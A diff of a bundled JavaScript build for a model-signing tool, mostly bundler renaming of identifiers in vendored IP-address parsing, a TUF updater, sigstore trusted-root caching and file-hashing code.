        * address.correctForm(); // '192.0.2.42'
        */
       static fromArpa(arpaFormAddress) {
-        const longest = constants6.GROUPS * 4 - 1 + "/32".length + ".in-addr.arpa.".length;
+        const longest = constants7.GROUPS * 4 - 1 + "/32".length + ".in-addr.arpa.".length;
         if (arpaFormAddress.length > longest) {
           throw new address_error_1.AddressError(`in-addr.arpa names are at most ${longest} characters.`);
         }
@@ -45382,7 +45532,7 @@ var require_ipv4 = __commonJS({
       toGroup6() {
         const output2 = [];
         let i;
-        for (i = 0; i < constants6.GROUPS; i += 2) {
+        for (i = 0; i < constants7.GROUPS; i += 2) {
           output2.push(`${common.stringToPaddedHex(this.parsedAddress[i])}${common.stringToPaddedHex(this.parsedAddress[i + 1])}`);
         }
         return output2.join(":");
@@ -45399,7 +45549,7 @@ var require_ipv4 = __commonJS({
        * @returns {bigint}
        */
       _startAddress() {
-        return BigInt(`0b${this.mask() + "0".repeat(constants6.BITS - this.subnetMask)}`);
+        return BigInt(`0b${this.mask() + "0".repeat(constants7.BITS - this.subnetMask)}`);
       }
       /**
        * The first address in the range given by this address' subnet.
@@ -45429,7 +45579,7 @@ var require_ipv4 = __commonJS({
        * new Address4('10.0.0.0/24').offset(1).correctForm(); // '10.0.0.1'
        */
       offset(n) {
-        return _Address4.fromBigInt(common.offsetBigInt(this.bigInt(), n, constants6.BITS, "IPv4")).withSubnetMask(this.subnetMask);
+        return _Address4.fromBigInt(common.offsetBigInt(this.bigInt(), n, constants7.BITS, "IPv4")).withSubnetMask(this.subnetMask);
       }
       /**
        * Returns the network that follows this address's network: the address after
@@ -45440,7 +45590,7 @@ var require_ipv4 = __commonJS({
        * new Address4('10.0.0.0/24').nextNetwork().networkForm(); // '10.0.1.0/24'
        */
       nextNetwork() {
-        return _Address4.fromBigInt(common.offsetBigInt(this._endAddress(), 1, constants6.BITS, "IPv4")).withSubnetMask(this.subnetMask);
+        return _Address4.fromBigInt(common.offsetBigInt(this._endAddress(), 1, constants7.BITS, "IPv4")).withSubnetMask(this.subnetMask);
       }
       withSubnetMask(subnetMask) {
         return new _Address4(`${this.correctForm()}/${subnetMask}`);
@@ -45450,7 +45600,7 @@ var require_ipv4 = __commonJS({
        * @returns {bigint}
        */
       _endAddress() {
-        return BigInt(`0b${this.mask() + "1".repeat(constants6.BITS - this.subnetMask)}`);
+        return BigInt(`0b${this.mask() + "1".repeat(constants7.BITS - this.subnetMask)}`);
       }
       /**
        * The last address in the range given by this address' subnet
@@ -45475,7 +45625,7 @@ var require_ipv4 = __commonJS({
        * @returns {Address4}
        */
       subnetMaskAddress() {
-        return _Address4.fromBigInt(BigInt(`0b${"1".repeat(this.subnetMask)}${"0".repeat(constants6.BITS - this.subnetMask)}`));
+        return _Address4.fromBigInt(BigInt(`0b${"1".repeat(this.subnetMask)}${"0".repeat(constants7.BITS - this.subnetMask)}`));
       }
       /**
        * The Cisco-style wildcard mask, e.g. `0.0.0.255` for a `/24`. This is
@@ -45484,7 +45634,7 @@ var require_ipv4 = __commonJS({
        * @returns {Address4}
        */
       wildcardMask() {
-        return _Address4.fromBigInt(BigInt(`0b${"0".repeat(this.subnetMask)}${"1".repeat(constants6.BITS - this.subnetMask)}`));
+        return _Address4.fromBigInt(BigInt(`0b${"0".repeat(this.subnetMask)}${"1".repeat(constants7.BITS - this.subnetMask)}`));
       }
       /**
        * The network address in CIDR string form, e.g. `192.168.1.0/24` for
@@ -45665,7 +45815,7 @@ var require_ipv4 = __commonJS({
        */
       binaryZeroPad() {
         if (this._binaryZeroPad === void 0) {
-          this._binaryZeroPad = this.bigInt().toString(2).padStart(constants6.BITS, "0");
+          this._binaryZeroPad = this.bigInt().toString(2).padStart(constants7.BITS, "0");
         }
         return this._binaryZeroPad;
       }
@@ -45680,7 +45830,7 @@ var require_ipv4 = __commonJS({
        */
       groupForV6() {
         const segments = this.parsedAddress;
-        return this.correctForm().replace(constants6.RE_ADDRESS, `<span class="hover-group group-v4 group-6">${segments.slice(0, 2).join(".")}</span>.<span class="hover-group group-v4 group-7">${segments.slice(2, 4).join(".")}</span>`);
+        return this.correctForm().replace(constants7.RE_ADDRESS, `<span class="hover-group group-v4 group-6">${segments.slice(0, 2).join(".")}</span>.<span class="hover-group group-v4 group-7">${segments.slice(2, 4).join(".")}</span>`);
       }
     };
     exports.Address4 = Address4;
@@ -45702,7 +45852,7 @@ var require_ipv4 = __commonJS({
     ];
     var BENCHMARKING_V4 = new Address4("198.18.0.0/15");
     var RESERVED_V4 = new Address4("240.0.0.0/4");
-    var SPECIAL_PURPOSE_V4 = constants6.SPECIAL_PURPOSE.map(([cidr, , reachable]) => ({
+    var SPECIAL_PURPOSE_V4 = constants7.SPECIAL_PURPOSE.map(([cidr, , reachable]) => ({
       subnet: new Address4(cidr),
       reachable
     }));
@@ -45965,13 +46115,13 @@ var require_ipv6 = __commonJS({
     exports.Address6 = void 0;
     var common = __importStar(require_common2());
     var constants42 = __importStar(require_constants4());
-    var constants6 = __importStar(require_constants5());
+    var constants62 = __importStar(require_constants5());
     var helpers = __importStar(require_helpers2());
     var ipv4_1 = require_ipv4();
     var regular_expressions_1 = require_regular_expressions();
     var address_error_1 = require_address_error();
     var common_1 = require_common2();
-    var isCorrect6 = common.isCorrect(constants6.BITS);
+    var isCorrect6 = common.isCorrect(constants62.BITS);
     function assert(condition) {
       if (!condition) {
         throw new Error("Assertion failed.");
@@ -46020,20 +46170,20 @@ var require_ipv6 = __commonJS({
         this.isHostInSubnet = common.isHostInSubnet;
         this.isCorrect = isCorrect6;
         if (optionalGroups === void 0) {
-          this.groups = constants6.GROUPS;
+          this.groups = constants62.GROUPS;
         } else {
           this.groups = optionalGroups;
         }
         this.address = address;
-        const subnet = constants6.RE_SUBNET_STRING.exec(address);
+        const subnet = constants62.RE_SUBNET_STRING.exec(address);
         if (subnet) {
           this.parsedSubnet = subnet[0].replace("/", "");
           this.subnetMask = parseInt(this.parsedSubnet, 10);
           this.subnet = `/${this.subnetMask}`;
-          if (Number.isNaN(this.subnetMask) || this.subnetMask < 0 || this.subnetMask > constants6.BITS) {
+          if (Number.isNaN(this.subnetMask) || this.subnetMask < 0 || this.subnetMask > constants62.BITS) {
             throw new address_error_1.AddressError("Invalid subnet mask.");
           }
-          address = address.replace(constants6.RE_SUBNET_STRING, "");
+          address = address.replace(constants62.RE_SUBNET_STRING, "");
         }
         if (/\//.test(address)) {
           throw new address_error_1.AddressError("Invalid subnet mask.");
@@ -46076,12 +46226,12 @@ var require_ipv6 = __commonJS({
        * address.correctForm(); // '::e8:d4a5:1000'
        */
       static fromBigInt(bigInt) {
-        if (bigInt < BigInt(0) || bigInt > (BigInt(1) << BigInt(constants6.BITS)) - BigInt(1)) {
+        if (bigInt < BigInt(0) || bigInt > (BigInt(1) << BigInt(constants62.BITS)) - BigInt(1)) {
           throw new address_error_1.AddressError("IPv6 BigInt must be in the range 0 to 2**128 - 1");
         }
         const hex = bigInt.toString(16).padStart(32, "0");
         const groups = [];
-        for (let i = 0; i < constants6.GROUPS; i++) {
+        for (let i = 0; i < constants62.GROUPS; i++) {
           groups.push(hex.slice(i * 4, (i + 1) * 4));
         }
         return new _Address6(groups.join(":"));
@@ -46105,7 +46255,7 @@ var require_ipv6 = __commonJS({
         const stripped = url.replace(/^[a-z][a-z0-9+.-]*:\/\//i, "");
         if (stripped.indexOf("[") !== -1 && stripped.indexOf("]:") !== -1) {
           error = "failed to parse address with port";
-          result = constants6.RE_URL_WITH_PORT.exec(stripped);
+          result = constants62.RE_URL_WITH_PORT.exec(stripped);
           if (result === null) {
             return { error, address: null, port: null };
           }
@@ -46113,7 +46263,7 @@ var require_ipv6 = __commonJS({
           port = result[2];
         } else {
           error = "failed to parse address from URL";
-          result = constants6.RE_URL.exec(stripped);
+          result = constants62.RE_URL.exec(stripped);
           if (result === null) {
             return { error, address: null, port: null };
           }
@@ -46145,7 +46295,7 @@ var require_ipv6 = __commonJS({
        * address.subnetMask; // 64
        */
       static fromAddressAndMask(address, mask) {
-        const bits = common.prefixLengthFromMask(new _Address6(mask).bigInt(), constants6.BITS);
+        const bits = common.prefixLengthFromMask(new _Address6(mask).bigInt(), constants62.BITS);
         return new _Address6(`${address}/${bits}`);
       }
       /**
@@ -46159,9 +46309,9 @@ var require_ipv6 = __commonJS({
        */
       static fromAddressAndWildcardMask(address, wildcardMask) {
         const wildcard = new _Address6(wildcardMask).bigInt();
-        const allOnes = (BigInt(1) << BigInt(constants6.BITS)) - BigInt(1);
+        const allOnes = (BigInt(1) << BigInt(constants62.BITS)) - BigInt(1);
         const mask = wildcard ^ allOnes;
-        const bits = common.prefixLengthFromMask(mask, constants6.BITS);
+        const bits = common.prefixLengthFromMask(mask, constants62.BITS);
         return new _Address6(`${address}/${bits}`);
       }
       /**
@@ -46190,7 +46340,7 @@ var require_ipv6 = __commonJS({
         if (halves.length === 2) {
           const left = halves[0] === "" ? [] : halves[0].split(":");
           const right = halves[1] === "" ? [] : halves[1].split(":");
-          const remaining = constants6.GROUPS - left.length - right.length;
+          const remaining = constants62.GROUPS - left.length - right.length;
           if (remaining < 1) {
             throw new address_error_1.AddressError("Wildcard pattern with '::' has too many groups");
           }
@@ -46198,7 +46348,7 @@ var require_ipv6 = __commonJS({
         } else {
           groups = input.split(":");
         }
-        if (groups.length !== constants6.GROUPS) {
+        if (groups.length !== constants62.GROUPS) {
           throw new address_error_1.AddressError("Wildcard pattern must have 8 groups");
         }
         let firstWildcard = -1;
@@ -46213,7 +46363,7 @@ var require_ipv6 = __commonJS({
         }
         const trailing = firstWildcard === -1 ? 0 : groups.length - firstWildcard;
         const replaced = groups.map((g2) => g2 === "*" ? "0" : g2);
-        const subnetBits = constants6.BITS - trailing * 16;
+        const subnetBits = constants62.BITS - trailing * 16;
         return new _Address6(`${replaced.join(":")}/${subnetBits}`);
       }
       /**
@@ -46227,7 +46377,7 @@ var require_ipv6 = __commonJS({
        */
       static fromAddress4(address) {
         const address4 = new ipv4_1.Address4(address);
-        const mask6 = constants6.BITS - (constants42.BITS - address4.subnetMask);
+        const mask6 = constants62.BITS - (constants42.BITS - address4.subnetMask);
         return new _Address6(`::ffff:${address4.correctForm()}/${mask6}`);
       }
       /**
@@ -46251,7 +46401,7 @@ var require_ipv6 = __commonJS({
         const subnetMask = reversed.length * 4;
         const hex = reversed.join("").padEnd(32, "0");
         const groups = [];
-        for (let i = 0; i < constants6.GROUPS; i++) {
+        for (let i = 0; i < constants62.GROUPS; i++) {
           groups.push(hex.slice(i * 4, (i + 1) * 4));
         }
         return new _Address6(`${groups.join(":")}/${subnetMask}`);
@@ -46278,8 +46428,8 @@ var require_ipv6 = __commonJS({
        */
       // TODO: probably useful to have a numeric version of this too
       possibleSubnets(subnetSize = 128) {
-        const availableBits = constants6.BITS - this.subnetMask;
-        const subnetBits = Math.abs(subnetSize - constants6.BITS);
+        const availableBits = constants62.BITS - this.subnetMask;
+        const subnetBits = Math.abs(subnetSize - constants62.BITS);
         const subnetPowers = availableBits - subnetBits;
         if (subnetPowers < 0) {
           return "0";
@@ -46291,7 +46441,7 @@ var require_ipv6 = __commonJS({
        * @returns {bigint}
        */
       _startAddress() {
-        return BigInt(`0b${this.mask() + "0".repeat(constants6.BITS - this.subnetMask)}`);
+        return BigInt(`0b${this.mask() + "0".repeat(constants62.BITS - this.subnetMask)}`);
       }
       /**
        * The first address in the range given by this address' subnet
@@ -46315,7 +46465,7 @@ var require_ipv6 = __commonJS({
        * @returns {bigint}
        */
       _endAddress() {
-        return BigInt(`0b${this.mask() + "1".repeat(constants6.BITS - this.subnetMask)}`);
+        return BigInt(`0b${this.mask() + "1".repeat(constants62.BITS - this.subnetMask)}`);
       }
       /**
        * The last address in the range given by this address's subnet. IPv6 has
@@ -46349,7 +46499,7 @@ var require_ipv6 = __commonJS({
        * new Address6('2001:db8::/64').offset(1).correctForm(); // '2001:db8::1'
        */
       offset(n) {
-        return _Address6.fromBigInt(common.offsetBigInt(this.bigInt(), n, constants6.BITS, "IPv6")).withSubnetMask(this.subnetMask);
+        return _Address6.fromBigInt(common.offsetBigInt(this.bigInt(), n, constants62.BITS, "IPv6")).withSubnetMask(this.subnetMask);
       }
       /**
        * Returns the network that follows this address's network: the address after
@@ -46360,7 +46510,7 @@ var require_ipv6 = __commonJS({
        * new Address6('2001:db8::/64').nextNetwork().networkForm(); // '2001:db8:0:1::/64'
        */
       nextNetwork() {
-        return _Address6.fromBigInt(common.offsetBigInt(this._endAddress(), 1, constants6.BITS, "IPv6")).withSubnetMask(this.subnetMask);
+        return _Address6.fromBigInt(common.offsetBigInt(this._endAddress(), 1, constants62.BITS, "IPv6")).withSubnetMask(this.subnetMask);
       }
       withSubnetMask(subnetMask) {
         return new _Address6(`${this.correctForm()}/${subnetMask}`);
@@ -46371,7 +46521,7 @@ var require_ipv6 = __commonJS({
        * @returns {Address6}
        */
       subnetMaskAddress() {
-        return _Address6.fromBigInt(BigInt(`0b${"1".repeat(this.subnetMask)}${"0".repeat(constants6.BITS - this.subnetMask)}`));
+        return _Address6.fromBigInt(BigInt(`0b${"1".repeat(this.subnetMask)}${"0".repeat(constants62.BITS - this.subnetMask)}`));
       }
       /**
        * The Cisco-style wildcard mask, e.g. `::ffff:ffff:ffff:ffff` for a
@@ -46380,7 +46530,7 @@ var require_ipv6 = __commonJS({
        * @returns {Address6}
        */
       wildcardMask() {
-        return _Address6.fromBigInt(BigInt(`0b${"0".repeat(this.subnetMask)}${"1".repeat(constants6.BITS - this.subnetMask)}`));
+        return _Address6.fromBigInt(BigInt(`0b${"0".repeat(this.subnetMask)}${"1".repeat(constants62.BITS - this.subnetMask)}`));
       }
       /**
        * The network address in CIDR string form, e.g. `2001:db8::/32` for
@@ -46403,7 +46553,7 @@ var require_ipv6 = __commonJS({
       getScope() {
         const type = this.getType();
         if (type === "Multicast" || type.startsWith("Multicast ")) {
-          const scope = constants6.SCOPES[parseInt(this.getBits(12, 16).toString(10), 10)];
+          const scope = constants62.SCOPES[parseInt(this.getBits(12, 16).toString(10), 10)];
           return scope || "Unknown";
         }
         if (type === "Link-local unicast" || type === "Loopback") {
@@ -46457,7 +46607,7 @@ var require_ipv6 = __commonJS({
        * @returns {String}
        */
       getBitsPastSubnet() {
-        return this.getBitsBase2(this.subnetMask, constants6.BITS);
+        return this.getBitsBase2(this.subnetMask, constants62.BITS);
       }
       /**
        * Return the reversed ip6.arpa form of the address
@@ -46537,7 +46687,7 @@ var require_ipv6 = __commonJS({
        */
       binaryZeroPad() {
         if (this._binaryZeroPad === void 0) {
-          this._binaryZeroPad = this.bigInt().toString(2).padStart(constants6.BITS, "0");
+          this._binaryZeroPad = this.bigInt().toString(2).padStart(constants62.BITS, "0");
         }
         return this._binaryZeroPad;
       }
@@ -46584,13 +46734,13 @@ var require_ipv6 = __commonJS({
       // TODO: Make private?
       parse(address) {
         address = this.parse4in6(address);
-        const badCharacters = address.match(constants6.RE_BAD_CHARACTERS);
+        const badCharacters = address.match(constants62.RE_BAD_CHARACTERS);
         if (badCharacters) {
-          throw new address_error_1.AddressError(`Bad character${badCharacters.length > 1 ? "s" : ""} detected in address: ${badCharacters.join("")}`, address.replace(constants6.RE_BAD_CHARACTERS, (character) => `<span class="parse-error">${helpers.escapeHtml(character)}</span>`));
+          throw new address_error_1.AddressError(`Bad character${badCharacters.length > 1 ? "s" : ""} detected in address: ${badCharacters.join("")}`, address.replace(constants62.RE_BAD_CHARACTERS, (character) => `<span class="parse-error">${helpers.escapeHtml(character)}</span>`));
         }
-        const badAddress = address.match(constants6.RE_BAD_ADDRESS);
+        const badAddress = address.match(constants62.RE_BAD_ADDRESS);
         if (badAddress) {
-          throw new address_error_1.AddressError(`Address failed regex: ${badAddress.join("")}`, address.replace(constants6.RE_BAD_ADDRESS, '<span class="parse-error">$1</span>'));
+          throw new address_error_1.AddressError(`Address failed regex: ${badAddress.join("")}`, address.replace(constants62.RE_BAD_ADDRESS, '<span class="parse-error">$1</span>'));
         }
         let groups = [];
         const halves = address.split("::");
@@ -46830,7 +46980,7 @@ var require_ipv6 = __commonJS({
        * @returns {Array}
        */
       toByteArray() {
-        const value = this.bigInt().toString(16).padStart(constants6.BITS / 4, "0");
+        const value = this.bigInt().toString(16).padStart(constants62.BITS / 4, "0");
         const bytes = [];
         for (let i = 0, length = value.length; i < length; i += 2) {
           bytes.push(parseInt(value.substring(i, i + 2), 16));
@@ -47204,8 +47354,8 @@ var require_ipv6 = __commonJS({
         const address6 = new _Address6(this.correctForm());
         if (address6.elidedGroups === 0) {
           output2.push((0, regular_expressions_1.simpleRegularExpression)(address6.parsedAddress));
-        } else if (address6.elidedGroups === constants6.GROUPS) {
-          output2.push((0, regular_expressions_1.possibleElisions)(constants6.GROUPS));
+        } else if (address6.elidedGroups === constants62.GROUPS) {
+          output2.push((0, regular_expressions_1.possibleElisions)(constants62.GROUPS));
         } else {
           const halves = address6.address.split("::");
           if (halves[0].length) {
@@ -47242,9 +47392,9 @@ var require_ipv6 = __commonJS({
       }
     };
     exports.Address6 = Address6;
-    var TYPE_SUBNETS = Object.keys(constants6.TYPES).map((subnet) => [
+    var TYPE_SUBNETS = Object.keys(constants62.TYPES).map((subnet) => [
       new Address6(subnet),
-      constants6.TYPES[subnet]
+      constants62.TYPES[subnet]
     ]);
     var TEREDO_SUBNET = new Address6("2001::/32");
     var SIX_TO_FOUR_SUBNET = new Address6("2002::/16");
@@ -47253,7 +47403,7 @@ var require_ipv6 = __commonJS({
     var DOCUMENTATION_SUBNETS = [new Address6("2001:db8::/32"), new Address6("3fff::/20")];
     var BENCHMARKING_SUBNET = new Address6("2001:2::/48");
     var GLOBAL_UNICAST_SUBNET = new Address6("2000::/3");
-    var SPECIAL_PURPOSE_V6 = constants6.SPECIAL_PURPOSE.map(([cidr, , reachable]) => ({
+    var SPECIAL_PURPOSE_V6 = constants62.SPECIAL_PURPOSE.map(([cidr, , reachable]) => ({
       subnet: new Address6(cidr),
       reachable
     }));
@@ -49856,14 +50006,14 @@ var require_url = __commonJS({
     Object.defineProperty(exports, "__esModule", { value: true });
     exports.join = join2;
     var url_1 = __require("url");
-    function join2(base2, path23) {
-      return new url_1.URL(ensureTrailingSlash(base2) + removeLeadingSlash(path23)).toString();
+    function join2(base2, path25) {
+      return new url_1.URL(ensureTrailingSlash(base2) + removeLeadingSlash(path25)).toString();
     }
-    function ensureTrailingSlash(path23) {
-      return path23.endsWith("/") ? path23 : path23 + "/";
+    function ensureTrailingSlash(path25) {
+      return path25.endsWith("/") ? path25 : path25 + "/";
     }
-    function removeLeadingSlash(path23) {
-      return path23.startsWith("/") ? path23.slice(1) : path23;
+    function removeLeadingSlash(path25) {
+      return path25.startsWith("/") ? path25.slice(1) : path25;
     }
   }
 });
@@ -49917,7 +50067,7 @@ var require_updater = __commonJS({
     var models_1 = require_dist5();
     var debug_1 = __importDefault(require_src());
     var fs2 = __importStar(__require("fs"));
-    var path23 = __importStar(__require("path"));
+    var path25 = __importStar(__require("path"));
     var package_json_1 = require_package4();
     var config_1 = require_config();
     var error_1 = require_error6();
@@ -49989,7 +50139,7 @@ var require_updater = __commonJS({
         const consistentSnapshot = this.trustedSet.root.signed.consistentSnapshot;
         if (consistentSnapshot && this.config.prefixTargetsWithHash) {
           const hashes = Object.values(targetInfo.hashes);
-          const { dir, base: base2 } = path23.parse(targetFilePath);
+          const { dir, base: base2 } = path25.parse(targetFilePath);
           const filename = `${hashes[0]}.${base2}`;
           targetFilePath = dir ? `${dir}/${filename}` : filename;
         }
@@ -50016,7 +50166,7 @@ var require_updater = __commonJS({
         return;
       }
       loadLocalMetadata(fileName) {
-        const filePath = path23.join(this.dir, `${fileName}.json`);
+        const filePath = path25.join(this.dir, `${fileName}.json`);
         log("READ %s", filePath);
         return fs2.readFileSync(filePath);
       }
@@ -50163,12 +50313,12 @@ var require_updater = __commonJS({
           throw new error_1.ValueError("Target directory not set");
         }
         const filePath = encodeURIComponent(targetInfo.path);
-        return path23.join(this.targetDir, filePath);
+        return path25.join(this.targetDir, filePath);
       }
       persistMetadata(metaDataName, bytesData) {
         const encodedName = encodeURIComponent(metaDataName);
         try {
-          const filePath = path23.join(this.dir, `${encodedName}.json`);
+          const filePath = path25.join(this.dir, `${encodedName}.json`);
           log("WRITE %s", filePath);
           fs2.writeFileSync(filePath, bytesData.toString("utf8"));
         } catch (error) {
@@ -50280,13 +50430,13 @@ var require_target = __commonJS({
     var fs_1 = __importDefault(__require("fs"));
     var error_1 = require_error7();
     async function readTarget(tuf, targetPath) {
-      const path23 = await getTargetPath(tuf, targetPath);
+      const path25 = await getTargetPath(tuf, targetPath);
       return new Promise((resolve, reject2) => {
-        fs_1.default.readFile(path23, "utf-8", (err, data) => {
+        fs_1.default.readFile(path25, "utf-8", (err, data) => {
           if (err) {
             reject2(new error_1.TUFError({
               code: "TUF_READ_TARGET_ERROR",
-              message: `error reading target ${path23}`,
+              message: `error reading target ${path25}`,
               cause: err
             }));
           } else {
@@ -50312,19 +50462,19 @@ var require_target = __commonJS({
           message: `target ${target} not found`
         });
       }
-      let path23 = await tuf.findCachedTarget(targetInfo);
-      if (!path23) {
+      let path25 = await tuf.findCachedTarget(targetInfo);
+      if (!path25) {
         try {
-          path23 = await tuf.downloadTarget(targetInfo);
+          path25 = await tuf.downloadTarget(targetInfo);
         } catch (err) {
           throw new error_1.TUFError({
             code: "TUF_DOWNLOAD_TARGET_ERROR",
-            message: `error downloading target ${path23}`,
+            message: `error downloading target ${path25}`,
             cause: err
           });
         }
       }
-      return path23;
+      return path25;
     }
   }
 });
@@ -50474,16 +50624,16 @@ var require_dist12 = __commonJS({
 
 // src/sigstore/trusted-root.ts
 import { createRequire as createRequire3 } from "node:module";
-import { mkdir, stat as stat2, unlink as unlink2 } from "node:fs/promises";
+import { mkdir as mkdir2, stat as stat3, unlink as unlink3 } from "node:fs/promises";
 import os from "node:os";
-import path4 from "node:path";
+import path6 from "node:path";
 function cacheDir() {
   if (process.env.MODELSIGN_CACHE_DIR) return process.env.MODELSIGN_CACHE_DIR;
-  const base2 = process.env.XDG_CACHE_HOME || path4.join(os.homedir(), ".cache");
-  return path4.join(base2, "modelsign");
+  const base2 = process.env.XDG_CACHE_HOME || path6.join(os.homedir(), ".cache");
+  return path6.join(base2, "modelsign");
 }
 function cachedTrustedRootPath() {
-  return path4.join(cacheDir(), "trusted_root.json");
+  return path6.join(cacheDir(), "trusted_root.json");
 }
 async function parseTrustedRoot(text, source) {
   const [{ TrustedRoot }, { toTrustMaterial }] = await Promise.all([Promise.resolve().then(() => __toESM(require_dist3(), 1)), Promise.resolve().then(() => __toESM(require_dist4(), 1))]);
@@ -50529,7 +50679,7 @@ async function loadTrustedRoot(file) {
   if (file !== void 0) return parseTrustedRoot(await readBounded(file, "trusted root"), file);
   const cached = cachedTrustedRootPath();
   try {
-    await stat2(cached);
+    await stat3(cached);
     return parseTrustedRoot(await readBounded(cached, "cached trusted root"), `${cached} (fetched by "modelsign trusted-root update")`);
   } catch (e) {
     if (errnoCode(e) !== "ENOENT") throw e;
@@ -50540,9 +50690,9 @@ async function loadTrustedRoot(file) {
 async function updateTrustedRoot(opts) {
   const mirror = opts.mirror ?? PUBLIC_GOOD_TUF_MIRROR;
   const out2 = opts.out ?? cachedTrustedRootPath();
-  const tufCache = path4.join(cacheDir(), "tuf");
-  await mkdir(tufCache, { recursive: true }).catch((e) => {
-    throw usage("WRITE_FAILED", `cannot create ${tufCache}: ${errnoCode(e) ?? String(e)}`);
+  const tufCache = path6.join(cacheDir(), "tuf");
+  await mkdir2(tufCache, { recursive: true }).catch((e) => {
+    throw usage("WRITE_FAILED", `cannot create ${tufCache}: ${errnoWords(e)}`);
   });
   if (opts.tufRoot !== void 0) await readBounded(opts.tufRoot, "TUF root");
   const { initTUF } = await Promise.resolve().then(() => __toESM(require_dist12(), 1));
@@ -50562,7 +50712,7 @@ async function updateTrustedRoot(opts) {
     throw new ModelsignError("TUF_UPDATE_FAILED", `cannot refresh the trusted root from ${mirror} (no network?): ${cause.split("\n")[0]}; the root in use is unchanged`, { kind: "reject" });
   }
   const root = await parseTrustedRoot(text, `TUF ${mirror}`);
-  await mkdir(path4.dirname(out2), { recursive: true }).catch(() => void 0);
+  await mkdir2(path6.dirname(out2), { recursive: true }).catch(() => void 0);
   await writeAtomic(out2, text.endsWith("\n") ? text : `${text}
 `);
   return { out: out2, source: mirror, root };
@@ -50575,6 +50725,7 @@ var init_trusted_root = __esm({
     init_strict_json();
     init_read_file();
     init_write_atomic();
+    init_errno();
     PUBLIC_GOOD_TUF_MIRROR = "https://tuf-repo-cdn.sigstore.dev";
     MAX_TRUSTED_ROOT = 8 * 1024 * 1024;
     TRUSTED_ROOT_MEDIA_TYPE = "application/vnd.dev.sigstore.trustedroot";
@@ -51261,7 +51412,7 @@ __export(model_path_exports, {
   modelPathError: () => modelPathError,
   statModel: () => statModel
 });
-import { stat as stat3 } from "node:fs/promises";
+import { stat as stat4 } from "node:fs/promises";
 function modelPathError(model, e, what = "model") {
   const c = errnoCode(e);
   const missing = c === "ENOENT" || c === "ENOTDIR";
@@ -51269,7 +51420,7 @@ function modelPathError(model, e, what = "model") {
 }
 async function statModel(model) {
   try {
-    return await stat3(model);
+    return await stat4(model);
   } catch (e) {
     throw modelPathError(model, e);
   }
@@ -51282,7 +51433,7 @@ var init_model_path = __esm({
 });
 
 // src/hashing/paths.ts
-import path5 from "node:path";
+import path7 from "node:path";
 function compareCodePoints(a, b2) {
   const n = a.length < b2.length ? a.length : b2.length;
   for (let i = 0; i < n; i++) {
@@ -51337,8 +51488,8 @@ function isIgnored(name2, ignorePaths) {
 }
 function effectiveIgnores(model, signaturePath, signed, user) {
   const out2 = new Set([...DEFAULT_IGNORES, ...signed ?? [], ...user].map(normaliseIgnorePath));
-  const rel = path5.relative(path5.resolve(model), path5.resolve(signaturePath));
-  if (rel && !rel.startsWith("..") && !path5.isAbsolute(rel)) out2.add(rel.split(path5.sep).join("/"));
+  const rel = path7.relative(path7.resolve(model), path7.resolve(signaturePath));
+  if (rel && !rel.startsWith("..") && !path7.isAbsolute(rel)) out2.add(rel.split(path7.sep).join("/"));
   return [...out2].filter((p2) => p2 !== "" && p2 !== ".");
 }
 var DEFAULT_IGNORES;
@@ -51351,10 +51502,10 @@ var init_paths = __esm({
 
 // src/hashing/enumerate.ts
 import { lstatSync, readdirSync, realpathSync, statSync } from "node:fs";
-import { lstat, realpath } from "node:fs/promises";
-import path6 from "node:path";
+import { lstat as lstat2, realpath } from "node:fs/promises";
+import path8 from "node:path";
 function within(rootReal, target) {
-  return target === rootReal || target.startsWith(rootReal.endsWith(path6.sep) ? rootReal : rootReal + path6.sep);
+  return target === rootReal || target.startsWith(rootReal.endsWith(path8.sep) ? rootReal : rootReal + path8.sep);
 }
 function kindOf(st2) {
   if (st2.isFIFO()) return "FIFO";
@@ -51364,10 +51515,10 @@ function kindOf(st2) {
   return "special file";
 }
 async function enumerateModel(model, opts) {
-  const root = path6.resolve(model);
+  const root = path8.resolve(model);
   let st2;
   try {
-    st2 = await lstat(root);
+    st2 = await lstat2(root);
   } catch (e) {
     throw modelPathError(model, e);
   }
@@ -51377,7 +51528,7 @@ async function enumerateModel(model, opts) {
     return enumerateModel(real, opts);
   }
   if (st2.isFile()) {
-    return { root, isFile: true, files: [{ name: path6.basename(root), abs: root, size: st2.size, viaLink: false, id: { dev: st2.dev, ino: st2.ino } }], problems };
+    return { root, isFile: true, files: [{ name: path8.basename(root), abs: root, size: st2.size, viaLink: false, id: { dev: st2.dev, ino: st2.ino } }], problems };
   }
   if (!st2.isDirectory()) {
     throw usage("SPECIAL_FILE", `model is a ${kindOf(st2)}, not a file or directory: ${model}`);
@@ -51406,7 +51557,7 @@ async function enumerateModel(model, opts) {
     const entries = readdirSync(absDir, { withFileTypes: true });
     const again = lstatSync(absDir);
     if (!again.isDirectory() || again.dev !== dst.dev || again.ino !== dst.ino) return replaced(rel);
-    const prefix = absDir.endsWith(path6.sep) ? absDir : absDir + path6.sep;
+    const prefix = absDir.endsWith(path8.sep) ? absDir : absDir + path8.sep;
     for (const ent of entries) {
       const name2 = rel === "" ? ent.name : `${rel}/${ent.name}`;
       if (isIgnored(name2, opts.ignorePaths)) continue;
@@ -52064,11 +52215,11 @@ var init_algorithms2 = __esm({
 });
 
 // src/hashing/read.ts
-import { closeSync as closeSync2, constants as constants2, fstatSync, openSync as openSync2, readSync as readSync2 } from "node:fs";
+import { closeSync as closeSync2, constants as constants3, fstatSync, openSync as openSync2, readSync as readSync2 } from "node:fs";
 function hashRange(task, alg, buf, onRead) {
   let fd;
   try {
-    fd = openSync2(task.abs, constants2.O_RDONLY | O_NONBLOCK | (task.followLink ? 0 : O_NOFOLLOW));
+    fd = openSync2(task.abs, constants3.O_RDONLY | O_NONBLOCK | (task.followLink ? 0 : O_NOFOLLOW));
   } catch (e) {
     const code = e.code;
     if (code === "ELOOP") return { ok: false, code: "FILE_IS_SYMLINK", message: MSG.symlink };
@@ -52127,8 +52278,8 @@ var init_read = __esm({
       changed: "file changed while it was being read"
     };
     READ_SIZE = 128 * 1024;
-    O_NOFOLLOW = constants2.O_NOFOLLOW ?? 0;
-    O_NONBLOCK = constants2.O_NONBLOCK ?? 0;
+    O_NOFOLLOW = constants3.O_NOFOLLOW ?? 0;
+    O_NONBLOCK = constants3.O_NONBLOCK ?? 0;
   }
 });
 
@@ -52522,8 +52673,8 @@ var init_serialize = __esm({
 });
 
 // src/verify/files.ts
-import { lstat as lstat2, realpath as realpath2 } from "node:fs/promises";
-import path7 from "node:path";
+import { lstat as lstat3, realpath as realpath2 } from "node:fs/promises";
+import path9 from "node:path";
 function parseShardName(name2) {
